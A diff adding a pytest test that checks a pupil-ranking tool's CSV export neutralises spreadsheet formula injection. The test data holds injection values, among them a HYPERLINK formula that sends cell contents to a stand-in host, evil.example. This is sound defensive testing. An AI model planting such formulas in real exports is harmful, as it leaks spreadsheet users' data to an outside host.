@@ -158,3 +158,21 @@ def test_semicolon_separated_windows_1252_csv_is_read(runner: CliRunner, tmp_pat
     assert result.exit_code == 0, result.output
     # 5 + 6 + 4 + 3 + 4 = 22 over 5 → 44.00
     assert json.loads(result.stdout)[0]["points"] == "44.00"
+
+
+def test_formula_cells_from_the_input_are_neutralised_in_the_ranked_csv(runner: CliRunner, tmp_path: Path) -> None:
+    pupils = [
+        full_pupil("=1+1", name='=HYPERLINK("https://evil.example/?"&A1,"klikk")', school="@SUM(A1:A2)"),
+        full_pupil("p2", name="-2+3", school="+47 skole"),
+        full_pupil("p3", name="\t=1", school="\r=2"),
+    ]
+    ranked = tmp_path / "ranked.csv"
+    result = runner.invoke(app, ["school", "points", str(write_json(tmp_path, pupils)), "--ranked-out", str(ranked)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(ranked.open(encoding="utf-8", newline="")))
+    for row in rows:
+        for column in ("id", "name", "school"):
+            assert row[column][0] not in "=+-@\t\r", (column, row[column])
+    assert rows[0]["name"] == """'=HYPERLINK("https://evil.example/?"&A1,"klikk")"""
+    assert {r["id"] for r in rows} == {"'=1+1", "p2", "p3"}
+    assert {r["school"] for r in rows} == {"'@SUM(A1:A2)", "'+47 skole", "'=2"}  # the importer strips the CR
